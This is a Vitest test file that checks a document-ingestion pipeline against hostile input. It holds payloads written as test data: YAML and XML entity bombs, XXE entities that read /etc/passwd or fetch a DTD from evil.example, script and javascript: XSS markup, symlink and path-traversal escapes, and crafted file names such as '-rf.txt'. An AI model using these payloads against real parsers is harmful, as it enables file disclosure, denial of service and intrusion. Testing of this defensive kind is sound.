import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { renderFindings } from '../../../scripts/effects/report.ts';
import { runAdd } from '../../../scripts/effects/run-add.ts';
import { runNormalize } from '../../../scripts/effects/run-normalize.ts';
import { readDocuments } from '../../../scripts/read/index.ts';
import { contentFolders, records } from '../../support/hostile-content.ts';

const { run, write, dispose } = contentFolders();
afterAll(dispose);

/** Nine names, each nine times the one before: 9^9 words of a few hundred bytes. */
const bomb = Array.from(
  { length: 9 },
  (_, i) => `k${i}: &a${i} [${Array.from({ length: 9 }, () => (i === 0 ? 'x' : `*a${i - 1}`)).join(', ')}]`,
).join('\n');

describe('files that people write', () => {
  it.each([
    ['corrections.yaml', bomb, 'corrections.yaml: Excessive alias count'],
    ['works.yaml', '&a\n- { name: X, kind: method }\n- *a\n', 'works.yaml:3: field "1": Invalid input'],
    ['works.yaml', '!!js/function "function () {}"\n', 'works.yaml: field "(whole file)"'],
    ['works.yaml', '- { name: !!binary "aGVsbG8=", kind: method }\n', 'works.yaml:1: field "0.name"'],
    ['works.yaml', '- { <<: { name: X }, kind: method }\n', 'works.yaml:1: field "0'],
    ['works.yaml', '['.repeat(20_000), 'works.yaml:1: Maximum call stack size exceeded. Mend the YAML.'],
    ['facts.json', '{"a":'.repeat(20_000), 'facts.json:1: Maximum call stack size exceeded. Mend the YAML.'],
    ['layout.json', '['.repeat(5000) + ']'.repeat(5000), 'layout.json:1: Maximum call stack size exceeded.'],
    [
      'tours/t.md',
      `---\ntitle: T\nsummary: S\n---\n${'> '.repeat(2000)}x\n`,
      'tours/t.md:5: holds quotations',
    ],
    ['notes/n.md', `---\ntitle: T\n---\n${'- '.repeat(500)}x\n`, 'notes/n.md:4: holds quotations'],
  ])('that unfold without end are named: %s %j', (file, text, message) => {
    const { wrong } = run({ [file]: text });
    expect(wrong).toContain(message);
    expect(wrong.split('\n').length).toBeLessThan(30);
  });

  it('hold no markup that runs: topics, tours and notes', () => {
    const { wrong, files } = run({
      'site.yaml': 'themes: [{ id: t, name: T }]\n',
      'topics/x.md':
        '---\nname: X\ntheme: t\ndefinition: D\nvocabulary: { word: 1 }\n---\n<script>alert(1)</script> [a](javascript:alert(2)) ![b](x)\n',
    });
    expect(wrong).toBe('');
    for (const [path, text] of files)
      if (path.endsWith('.xml'))
        expect([path, text]).not.toEqual([path, expect.stringMatching(/<script|javascript:/)]);
  });
});

describe('documents that unfold without end', () => {
  const read = (text: string) =>
    readDocuments({
      ...{ infos: new Map(), corrections: { titles: [], furniture: [] }, facts: {} },
      documents: new Map([['a.txt', new TextEncoder().encode(text)]]),
    });
  const atom = (head: string, title: string): string =>
    `<?xml version="1.0"?>${head}<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>http://arxiv.org/abs/2401.00001v1</id><title>${title}</title><summary>S. It ends.</summary><author><name>A B</name></author></entry></feed>`;
  const entities = (text: string): string => `<!DOCTYPE feed [${text}]>`;

  it.each([
    [entities(`<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">`), '&c;'],
    [entities(`<!ENTITY x SYSTEM "file:///etc/passwd">`), '&x;'],
    [entities(`<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;`), 'A Title'],
  ])('declare entities that stay what they are: %s', (head, title) => {
    const { entries, findings } = read(atom(head, title));
    expect(JSON.stringify([entries, findings])).not.toMatch(/haha|root:/);
  });

  it.each([
    ['JSON lists', '['.repeat(200_000)],
    [
      'JSON objects',
      `[{"id":"x","type":"article","title":"x","a":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}]`,
    ],
    ['BibTeX braces', `@article{a, title = ${'{'.repeat(100_000)}x${'}'.repeat(100_000)}}`],
    ['open BibTeX braces', `@article{a, title = ${'{'.repeat(100_000)}`],
    ['XML elements', atom('', `${'<b>'.repeat(50_000)}x${'</b>'.repeat(50_000)}`)],
    ['HTML elements', `<!doctype html><h3><a href="/papers/2401.00001">T</a></h3>${'<div>'.repeat(100_000)}`],
    ['formulas', `A Title in Front\n\nAn abstract $${'\\frac{'.repeat(5000)}$.`],
    [
      'Markdown brackets',
      `- [A](https://arxiv.org/abs/2401.00001)\n- ${'['.repeat(3000)}](https://arxiv.org/abs/2401.00002)`,
    ],
  ])('end in entries or findings: %s', (_, text) => {
    const { entries, findings } = read(text);
    expect(entries.length + findings.length).toBeGreaterThan(0);
  });
});

describe('files that lead elsewhere', () => {
  it('a link among the documents is named, and what it leads to is not read', () => {
    const folder = write({});
    const secret = join(dirname(folder), 'secret.txt');
    writeFileSync(secret, 'A Secret Title\n\nA secret abstract, with enough words in it to be one.\n');
    symlinkSync(secret, join(folder, 'documents/b.txt'));
    symlinkSync('nowhere', join(folder, 'documents/c.txt'));
    symlinkSync(dirname(folder), join(folder, 'documents/d'));
    const said = renderFindings(runNormalize(folder, false).findings);
    for (const name of ['b.txt', 'c.txt', 'd'])
      expect(said).toContain(`documents/${name}: is a link or a device, no file.`);
    expect(said).not.toContain('ecret');
    expect(existsSync(join(folder, 'papers'))).toBe(false);
  });

  it('a plan of a run that died touches nothing outside its folder', () => {
    const folder = write({});
    const outside = join(dirname(folder), 'outside.txt');
    writeFileSync(outside, 'mine');
    const staging = join(dirname(folder), '.content.staging');
    mkdirSync(join(staging, 'files'), { recursive: true });
    for (const name of ['0', '1', '2']) writeFileSync(join(staging, 'files', name), 'theirs');
    writeFileSync(
      join(staging, 'plan.json'),
      JSON.stringify({
        write: ['../outside.txt', outside, 'papers/../../outside.txt'],
        remove: ['../outside.txt', outside, 'documents/../../outside.txt'],
      }),
    );
    expect(runNormalize(folder, false).findings).toEqual([]);
    expect(readFileSync(outside, 'utf8')).toBe('mine');
  });

  it('a file that is added stays under a name of its own in documents/', () => {
    const folder = write({});
    const from = join(dirname(folder), 'from');
    mkdirSync(from);
    const names = ['..listing', '-rf.txt', 'a\u202etxt.exe', 'b\nfake: line', 'aux.txt', '.env'];
    names.forEach((name, i) => writeFileSync(join(from, name), records({ title: `Other Title ${i}` })));
    const options = { captured: null, today: '2026-11-22', dryRun: false, from };
    const { fates, findings } = runAdd(folder, names, options);
    expect(findings).toEqual([]);
    for (const fate of fates) expect(`${fate.kind} ${fate.document}`).toMatch(/^added [A-Za-z0-9][\w.-]*$/);
    expect(existsSync(join(folder, 'documents/document-aux.txt'))).toBe(true);
  });

  it.each(['papers/a-title.md', 'annotations/works.json'])(
    'a generated file that was edited is named: %s',
    (path) => {
      const { folder } = run({ 'documents/a.json': records({ title: 'A Title' }) });
      const known = existsSync(join(folder, path)) ? path : 'papers/title.md';
      const text = readFileSync(join(folder, known), 'utf8');
      writeFileSync(join(folder, known), text.replace(/An abstract|"works"/, '$& <script>alert(1)</script>'));
      writeFileSync(join(folder, 'facts.json'), '{}');
      expect(renderFindings(runNormalize(folder, false).findings)).toContain(`${known}: was edited by hand`);
    },
  );
});
